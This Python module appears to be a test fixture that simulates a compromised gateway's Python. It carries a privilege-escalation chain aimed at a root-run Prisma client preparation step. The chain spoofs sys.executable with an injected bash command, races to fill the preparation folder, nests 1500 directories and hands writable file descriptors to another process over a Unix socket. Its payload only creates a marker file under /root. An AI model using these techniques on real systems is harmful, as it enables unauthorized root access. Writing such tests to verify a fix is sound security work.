"""Imported by the gateway's own Python each time that it starts, in one that was broken into.

/srv/attacker/python says what else it does: `lie` about what it is, or `fill` the folder in which
Prisma's client is prepared.
"""

import os
import socket
import subprocess
import sys
import threading
import time
from contextlib import suppress

HOW = "/srv/attacker/python"
PREPARED = "/var/lib/hx-gateway-db-prisma"
# More than Python goes down by calling itself.
DEPTH = 1500
SOCKET = "\0prepared"


def main() -> None:
    if os.getuid() == 0:
        # Root has run what belongs to the gateway's user.
        subprocess.run(["/usr/bin/touch", "/root/entered"])
    with suppress(OSError), open(HOW) as file:
        WAYS.get(file.read().strip(), lambda: None)()


def lie() -> None:
    sys.executable = "bash -c 'touch /root/entered' #"


def fill() -> None:
    """In the background: what is prepared is made by this process."""
    threading.Thread(target=_fill, daemon=True).start()


def _fill() -> None:
    for _ in range(2000):
        time.sleep(0.01)
        with suppress(OSError):
            for name in os.listdir(PREPARED):
                folder = f"{PREPARED}/{name}"
                if os.access(f"{folder}/client/prisma", os.W_OK):
                    _nest(folder)
                    _hand_out(f"{folder}/client/prisma")
                    return


def _nest(folder: str) -> None:
    here = os.open(folder, os.O_RDONLY)
    with suppress(OSError):
        for _ in range(DEPTH):
            os.mkdir("d", dir_fd=here)
            here, last = os.open("d", os.O_RDONLY, dir_fd=here), here
            os.close(last)


def _hand_out(package: str) -> None:
    """Descriptors of files that will be root's, to a process that outlives this one."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.connect(SOCKET)
        for name in ("kept.py", "linked.py"):
            descriptor = os.open(f"{package}/{name}", os.O_RDWR | os.O_CREAT, 0o666)
            socket.send_fds(sender, [b"."], [descriptor])
        os.link(f"{package}/linked.py", f"{package}/second_name.py")


WAYS = {"lie": lie, "fill": fill}

main()
